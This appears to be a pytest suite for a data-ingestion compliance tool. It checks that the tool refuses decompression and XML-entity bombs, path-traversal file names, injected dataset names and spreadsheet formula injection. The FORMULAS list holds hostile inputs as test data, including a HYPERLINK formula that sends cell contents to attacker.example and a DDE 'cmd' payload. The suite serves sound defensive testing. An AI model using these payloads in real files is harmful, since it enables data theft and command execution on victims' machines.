"""Files that are meant to do harm: they fill no memory, hold nobody up, and lead nowhere."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest

from compliance.dataset import RawFile, read
from compliance.errors import ComplianceError, EmptyFileError
from compliance.plain import csv_bytes, spreadsheet_safe
from compliance.workspace import Workspace
from tests.bombs import BOMBS

ROOT = Path(__file__).resolve().parent.parent
MOST_BYTES, MOST_S = 6 * 2**30, 60
REFUSED = {
    "gzip": "UnfoldsError",
    "zip": "UnfoldsError",
    "lying zip": "NotATableError",
    "nested gzip": "NotATableError",
    "many members": "EmptyFileError",
    "far sheet": "UnfoldsError",
    "wide sheet": "UnfoldsError",
    "many sheets": "UnfoldsError",
    "inflated sheet": "NotATableError",
    "parquet of nulls": "UnfoldsError",
    "parquet of one text": "UnfoldsError",
    "sparse objects": "UnfoldsError",
    "deep object": "NotATableError",
    "empty lines": "UnfoldsError",
    "many columns": "TooManyColumnsError",
    "endless view": "NotATableError",
    "crossed view": "UnfoldsError",
    "counting view": "NotATableError",
    "long cells": "NotATableError",
    "reaching view": "NotATableError",
    # Custom entities are not unfolded: the cells stay without them.
    "billion laughs": "read 1",
    "file as entity": "read 1",
}


@pytest.fixture(scope="module")
def outcomes() -> dict[str, dict[str, object]]:
    """What came of each bomb in a process with 6 GB, and a minute of processor time for each."""
    done = subprocess.run(
        [sys.executable, "tests/bombs.py", str(MOST_BYTES), str(MOST_S)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    said = [json.loads(line) for line in done.stdout.splitlines()]
    return {row["bomb"]: row for row in said} | {"end": {"said": done.stderr[-2000:]}}


@pytest.mark.parametrize("bomb", list(BOMBS))
def test_a_small_file_that_would_fill_the_memory_is_refused(
    outcomes: dict[str, dict[str, object]], bomb: str
) -> None:
    assert bomb in outcomes, outcomes["end"]["said"]
    assert outcomes[bomb]["said"] == REFUSED[bomb]


def test_a_file_of_this_machine_never_comes_in_by_an_entity() -> None:
    file, make, _ = BOMBS["file as entity"]
    found = read(RawFile(name=file, data=make())).table.to_pydict()

    assert "root" not in str(found)


@pytest.mark.parametrize(
    ("file", "rows"),
    [
        pytest.param("t.jsonl", b"{}\n" * 5_000 + b'{"a": 1, "b": 2}', id="sparse objects"),
        pytest.param("t.csv", b"a,b\n1,2\n" + b"1,2\n" * 200_000, id="many rows"),
        pytest.param("t.csv", b"a,b\n1,2\n" + b"\n" * 5_000 + b"3,4\n", id="empty lines"),
    ],
)
def test_what_is_merely_large_or_sparse_is_read(file: str, rows: bytes) -> None:
    assert read(RawFile(name=file, data=rows)).table.num_rows > 5_000


# Paths


@pytest.mark.parametrize(
    "name",
    [
        *("../../etc/cron.d/x.csv", "/etc/passwd.csv", "C:\\Windows\\x.csv", "..\\..\\x.csv"),
        *("a\x00b.csv", "-rf.csv", "\u202efdp.csv", "nul.csv", "a" * 300 + ".csv", "~/x.csv"),
    ],
)
def test_names_of_files_and_members_lead_nowhere(workspace: Workspace, name: str) -> None:
    table, other = b"a,b\n1,2\n3,4\n", b"a,b\n1,2\n3,5\n"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name.replace("\x00", "_"), other)
    home = workspace.settings.home
    around = set(home.parent.rglob("*")) - set(home.rglob("*"))
    for number, file in enumerate(
        (RawFile(name=name, data=table), RawFile(name=f"{name}.zip", data=packed.getvalue()))
    ):
        with suppress(
            EmptyFileError
        ):  # a member in a folder whose name begins with a dot is hidden
            workspace.add_files([file], f"taken{number}")

    kept = {path.relative_to(home).as_posix() for path in home.rglob("*") if path.is_file()}
    assert set(home.parent.rglob("*")) - set(home.rglob("*")) == around
    assert not [path for path in kept if "passwd" in path or "cron" in path or "Windows" in path]


@pytest.mark.parametrize("name", ["../x", "a/b", "..", "-x", "a\nb", "a\x00", "<b>", "'; drop"])
def test_a_dataset_cannot_be_called_what_leads_elsewhere(workspace: Workspace, name: str) -> None:
    with pytest.raises(ComplianceError):
        workspace.add_files([RawFile(name="t.csv", data=b"a,b\n1,2\n3,4\n")], name)

    assert workspace.datasets() == ()


# Formulas

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＠x",
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_is_handed_out_is_a_formula(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"), newline=""))

    assert row == [spreadsheet_safe(text)]
    assert row[0].startswith("'")
    assert row[0][1:] == text
